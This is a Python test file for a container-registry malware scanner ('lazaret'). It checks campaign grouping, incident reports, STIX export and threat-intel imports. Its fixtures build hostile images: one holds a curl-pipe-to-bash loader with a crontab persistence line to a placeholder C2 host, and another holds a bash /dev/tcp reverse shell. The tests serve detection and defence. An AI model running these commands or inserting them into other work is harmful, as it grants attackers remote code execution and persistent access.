"""Campaigns of `lazaret serve`: images of several accounts are linked with their reasons, imports hold what they match, and the incident report tells the story."""
import hashlib
import json
import os
import pathlib
import subprocess

import support
import images
from images import File, Image, layer
from serve_support import BASE, Client, Server

SERVER = "203.0.113.7:8220"


def loader(name, comment):
    script = f"#!/bin/sh\n# {comment}\ncurl -s http://{SERVER}/{name}.jpg | bash -s\necho '* * * * * curl -s http://{SERVER}/{name}.jpg | bash -s' >> /mnt/etc/crontab\n"
    return Image([BASE, layer(File("run.sh", script, mode=0o755))], entrypoint=["/run.sh"])


def shell(port):
    return Image([BASE, layer(File("run.sh", f"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.9/{port} 0>&1\n", mode=0o755))], entrypoint=["/run.sh"])


TOOL = b"#!/bin/sh\n# a tool that nothing is known of\necho tool at work\n"


def innocent(name):
    return Image([BASE, layer(File(f"etc/{name}", name), File("opt/tool.sh", TOOL, mode=0o755))], cmd=["/bin/true"])


def lazaret(*arguments, code=0, env=None):
    done = subprocess.run([support.LAZARET, *arguments], capture_output=True, text=True, timeout=120, env=env)
    assert done.returncode == code, (arguments, done.returncode, done.stdout[-2000:], done.stderr[-2000:])
    return done.stdout if code == 0 else done.stderr


def campaign(server, *arguments, code=0):
    return lazaret("campaign", *arguments, "--data", server.data, code=code)


def campaigns(server):
    return json.loads(campaign(server, "list", "--format", "json"))


def test_two_accounts_with_one_server_are_one_campaign():
    with support.temporary_folder() as folder, Server(folder) as server:
        digests = {}
        for account, image in (("alice", loader("logo3", "first")), ("bob", loader("logo4", "second"))):
            answer, digests[account], _ = Client(server, account).push(f"{account}/tomcat", "1", image)
            assert answer.status >= 400, answer
        answer, _, _ = Client(server, "carol").push("carol/other", "1", shell(4444))
        assert answer.status >= 400, answer
        answer, _, _ = Client(server, "carol").push("carol/app", "1", Image([BASE, layer(File("etc/a", "a"))], cmd=["/bin/true"]))
        assert answer.status == 201, answer
        server.stop()

        found = [entry for entry in campaigns(server) if entry["images"] > 0]
        assert len(found) == 1, found
        number = str(found[0]["id"])
        assert found[0]["convicted"] == 2 and found[0]["accounts"] == 2, found
        story = json.loads(campaign(server, "report", number, "--format", "json"))
        assert {image["digest"] for image in story["images"]} == set(digests.values())
        assert any(SERVER in image["why"] for image in story["images"]), [image["why"] for image in story["images"]]
        assert {"type": "c2", "value": SERVER} in [{"type": i["type"], "value": i["value"]} for i in story["indicators"]]
        assert "T1053.003" in story["attack"] and story["first_upload"] and story["first_verdict"]
        assert [moment["when"] for moment in story["timeline"]] == sorted(moment["when"] for moment in story["timeline"])
        check_schema(story)
        check_forms(server, number, folder)
        check_acts(server, number, digests)


def check_schema(story):
    try:
        import jsonschema
    except ImportError:
        return
    jsonschema.validate(story, json.loads((pathlib.Path(support.ROOT) / "docs" / "campaign.schema.json").read_text()))


def check_forms(server, number, folder):
    html = campaign(server, "report", number, "--format", "html")
    assert "<script" not in html and SERVER in html and "default-src 'none'" in html
    markdown = campaign(server, "report", number, "--format", "markdown")
    assert "# Incident report" in markdown and "## Timeline" in markdown and "## What to do" in markdown
    path = f"{folder}/bundle.json"
    campaign(server, "report", number, "--format", "stix", "-o", path)
    bundle = json.loads(open(path).read())
    assert bundle["type"] == "bundle" and {"campaign", "indicator", "report", "relationship", "attack-pattern"} <= {o["type"] for o in bundle["objects"]}
    known = {o["id"] for o in bundle["objects"]}
    for o in bundle["objects"]:
        for reference in [o.get("source_ref"), o.get("target_ref"), *o.get("object_refs", [])]:
            assert reference is None or reference in known, reference
    # What one lazaret tells, another understands.
    text = lazaret("intel", "import", "--incidents", f"{folder}/intel", "--id", "heard", path)
    assert " taken (" in text, text
    listed = json.loads(lazaret("intel", "list", "--format", "json", "--incidents", f"{folder}/intel"))
    assert any(i["id"] == "heard" and i["imported"] and i["indicators"] > 0 for i in listed), listed


def check_acts(server, number, digests):
    campaign(server, "name", number, "the painters")
    campaign(server, "confirm", number)
    assert "the painters" in campaign(server, "show", number)
    other = campaign(server, "split", number, digests["bob"]).strip()
    assert {entry["id"]: entry["images"] for entry in campaigns(server) if entry["images"]} == {int(number): 1, int(other): 1}
    campaign(server, "merge", number, other)
    assert [entry["images"] for entry in campaigns(server) if entry["images"]] == [2]
    assert "there is no campaign" in campaign(server, "show", "9999", code=2)
    assert "is no image of campaign" in campaign(server, "split", number, "sha256:" + "0" * 64, code=2)


def test_commands_reach_a_running_server():
    with support.temporary_folder() as folder, Server(folder) as server:
        digests = {}
        for account, image in (("alice", loader("logo3", "first")), ("bob", loader("logo4", "second"))):
            _, digests[account], _ = Client(server, account).push(f"{account}/tomcat", "1", image)
        answer, clean, _ = Client(server, "carol").push("carol/app", "1", innocent("one"))
        assert answer.status == 201, answer
        config = ("--config", f"{folder}/lazaret.toml", "--data", server.data, "--server", f"http://{server.host}")
        found = [entry for entry in json.loads(lazaret("campaign", "list", "--format", "json", *config)) if entry["images"]]
        assert [entry["convicted"] for entry in found] == [2], found
        number = str(found[0]["id"])
        assert SERVER in lazaret("campaign", "show", number, *config)
        assert "# Incident report" in lazaret("campaign", "report", number, "--format", "markdown", *config)
        lazaret("campaign", "name", number, "the painters", *config)
        lazaret("campaign", "confirm", number, *config)
        other = lazaret("campaign", "split", number, digests["bob"], *config).strip()
        lazaret("campaign", "merge", number, other, *config)
        admin = Client(server, "admin")
        story = admin.get(f"/api/v1/campaigns/{number}").json()
        check_schema(story)
        assert story["title"] == "the painters" and story["confirmed"] and len(story["images"]) == 2
        wanted = f"/api/v1/indicators/images?type=c2&value={SERVER}"
        assert {item["digest"] for item in admin.get(wanted).json()["items"]} == set(digests.values())
        assert any(item["value"] == SERVER for item in admin.get("/api/v1/indicators?type=c2").json()["items"])
        assert Client(server, "alice").get("/api/v1/campaigns").status == 403
        assert admin.get("/api/v1/campaigns/9999").status == 404
        # Held at once, while the server runs.
        assert Client(server).get("/v2/carol/app/manifests/1").status == 200
        feed = f"{folder}/feed.txt"
        with open(feed, "w") as out:
            out.write(hashlib.sha256(TOOL).hexdigest() + "\n10.0.0.1\n")
        text = lazaret("intel", "import", *config, feed)
        assert "1 images match, 1 of them" in text and "private" in text, text
        assert Client(server).get("/v2/carol/app/manifests/1").status == 404
        answer, _, _ = Client(server, "bob").push("bob/other", "1", innocent("two"))
        assert answer.status >= 400, answer
        assert admin.request("DELETE", "/api/v1/incidents/feed-txt").status == 204
        assert admin.request("DELETE", "/api/v1/incidents/feed-txt").status == 404


def test_an_import_holds_what_it_matches_before_anybody_can_pull_it_again():
    with support.temporary_folder() as folder, Server(folder) as server:
        alice, nobody = Client(server, "alice"), Client(server)
        answer, digest, _ = alice.push("alice/app", "1", innocent("one"))
        assert answer.status == 201, answer
        assert nobody.get("/v2/alice/app/manifests/1").status == 200
        server.stop()
        feed = f"{folder}/feed.txt"
        with open(feed, "w") as out:
            out.write(hashlib.sha256(TOOL).hexdigest() + "  tool.sh\n10.0.0.1\n")
        text = lazaret("intel", "import", "--data", server.data, feed)
        assert "1 taken" in text and "10.0.0.1" in text and "private" in text, text
        server.start()
        assert nobody.get("/v2/alice/app/manifests/1").status != 200
        # The same content from somebody else, under another name.
        answer, _, _ = Client(server, "bob").push("bob/other", "1", innocent("two"))
        assert answer.status >= 400, answer
        server.stop()
        found = [entry for entry in campaigns(server) if entry["incident"] == "feed-txt"]
        assert found and found[0]["images"] == 2, campaigns(server)


def test_scan_uses_imports_of_the_user():
    with support.temporary_folder() as folder:
        images.write_layout(f"{folder}/image", {"latest": innocent("x")})
        data = f"{folder}/user"
        env = {"XDG_DATA_HOME": data}
        _, before, _ = support.scan(f"oci:{folder}/image", env=env)
        assert before["verdict"] == "clean", before["reasons"]
        with open(f"{folder}/list", "w") as out:
            out.write(hashlib.sha256(TOOL).hexdigest() + "\n")

        lazaret("intel", "import", "--id", "mine", f"{folder}/list", env=dict(os.environ, **env))
        _, after, _ = support.scan(f"oci:{folder}/image", env=env)
        assert after["verdict"] == "malicious", after["reasons"]
        assert "incident mine" in json.dumps(after["findings"])
        assert before["engine"]["ruleset"] != after["engine"]["ruleset"], "an import is part of the ruleset"
        assert hashlib.sha256(TOOL).hexdigest() in lazaret("intel", "export", "--format", "list", "mine", env=dict(os.environ, **env))
        lazaret("intel", "remove", "mine", env=dict(os.environ, **env))
        _, gone, _ = support.scan(f"oci:{folder}/image", env=env)
        assert gone["engine"]["ruleset"] == before["engine"]["ruleset"]


def test_a_built_in_incident_cannot_be_replaced():
    with support.temporary_folder() as folder:
        with open(f"{folder}/list", "w") as out:
            out.write("0" * 63 + "1\n")
        assert "built-in" in lazaret("intel", "import", "--incidents", f"{folder}/i", "--id", "docker123321-2018", f"{folder}/list", code=2)
        bundle = json.loads(lazaret("intel", "export", "--format", "stix", "docker123321-2018", "--incidents", f"{folder}/i"))
        assert any("104.225.147.196:8220" in o.get("pattern", "") for o in bundle["objects"])


if __name__ == "__main__":
    support.main(globals())
